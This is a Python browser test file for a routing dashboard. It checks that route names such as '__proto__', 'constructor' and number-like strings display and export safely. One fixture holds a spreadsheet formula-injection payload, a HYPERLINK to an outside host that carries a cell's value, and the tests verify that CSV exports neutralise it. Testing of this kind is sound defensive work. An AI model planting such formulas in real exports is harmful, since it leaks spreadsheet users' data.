"""Names that people chose for their routes and answers, on the pages in a real Chromium: `make test-browser`."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest

from sona_pg import Store
from sona_pg.service import ServiceOptions
from tests.service.browser.check_downloads import downloaded
from tests.service.browser.watched import Watched
from tests.service.conftest import CONFIG
from tests.service.site import Site

FORMULA = '=HYPERLINK("http://elsewhere/?"&A2;"open")'
DEAREST = ["__proto__", FORMULA, "-2+3", "others", "constructor"]  # by day these have a column each
OTHERS = ["1,234", "–", "-1", "50 %", "toString"]
TIMES = 4


@pytest.fixture(scope="module")
def site(store: Store) -> Iterator[Site]:
    """A space whose routes cost 12 down to 1 a request; the constructor was not taken on the day before yesterday."""
    site = Site(store, ServiceOptions(space="named", dim=256, config=CONFIG))
    now = datetime.now(UTC)
    rows = [
        {
            "id": f"{route} {before} {turn}",
            "started_at": (now - timedelta(days=before)).isoformat(),
            "text": f"where is parcel {turn}",
            "route": route,
            "quality": turn % 2,
            "cost": 12 if route == "constructor" else 10 - place,
        }
        for place, route in enumerate([*DEAREST, *OTHERS])
        for before in (0, 2)
        for turn in range(TIMES)
        if before == 0 or route != "constructor"
    ]
    site.post("/v1/trajectories/batch", {"trajectories": rows})
    site.post("/v1/learn")
    vector = np.zeros(256)
    vector[0] = 1
    site.post("/v1/candidates", {"ids": ["constructor"], "vectors": [vector.tolist()]})  # it has no text
    yield site
    site.close()


def test_routes_by_day_are_told_apart_whatever_their_names(watched: Watched, site: Site) -> None:
    page = watched.page
    page.goto(f"{site.url}/?space=named&days=7#routes")
    page.click("summary:text-is('Show as a table')")
    caption = "Spending by day"
    table = page.locator(f"table:has(caption:text-is('{caption}'))")
    assert table.locator("thead th").all_inner_texts()[-len(DEAREST) :] == DEAREST
    shown = [table.locator(f"td[data-name='{route}']").all_inner_texts() for route in ("__proto__", "constructor")]
    assert shown == [["40", "40"], ["–", "48"]]
    assert table.locator("td", has_text="NaN").count() == 0
    legend = page.locator(f"section:has(table:has(caption:text-is('{caption}'))) .legend li")
    assert legend.all_inner_texts() == [*DEAREST, "others"]
    _, rows = downloaded(page, caption)
    assert [row["__proto__"] for row in rows] == ["40", "40"]
    assert [row["constructor"] for row in rows] == ["", "48"]


def test_no_name_of_a_column_runs_in_a_spreadsheet(watched: Watched, site: Site) -> None:
    page = watched.page
    page.goto(f"{site.url}/?space=named&days=7#routes")
    page.click("summary:text-is('Show as a table')")
    names = list(downloaded(page, "Spending by day")[1][0])
    assert [f"'{FORMULA}", "'-2+3"] == [name for name in names if "HYPERLINK" in name or "2+3" in name]


def test_names_that_look_like_figures_are_taken_along_as_they_are(watched: Watched, site: Site) -> None:
    watched.page.goto(f"{site.url}/?space=named&days=7#routes")
    _, rows = downloaded(watched.page, "Routes taken most often")
    found = {row["Route"]: row for row in rows}
    assert set(found) == {*OTHERS, f"'{FORMULA}", "'-2+3", *DEAREST} - {FORMULA, "-2+3"}
    assert found["1,234"]["Quality"] == "50%"
    assert found["1,234"]["Likely from"].endswith("%")


def test_an_answer_without_a_text_is_its_id_alone_in_the_chat(watched: Watched, site: Site) -> None:
    page = watched.page
    page.goto(f"{site.url}/demo?space=named")
    page.fill("#question", "where is parcel 1")
    page.press("#question", "Enter")
    page.wait_for_selector(".reply .said-back:text-is('constructor')")
    assert "native code" not in page.locator(".reply").inner_text()


@pytest.mark.parametrize("name", ["constructor", "__proto__"])
def test_an_address_that_names_no_view_shows_the_overview(watched: Watched, site: Site, name: str) -> None:
    watched.page.goto(f"{site.url}/?space=named#{name}")
    watched.page.wait_for_selector("h1:text-is('How named is doing')")
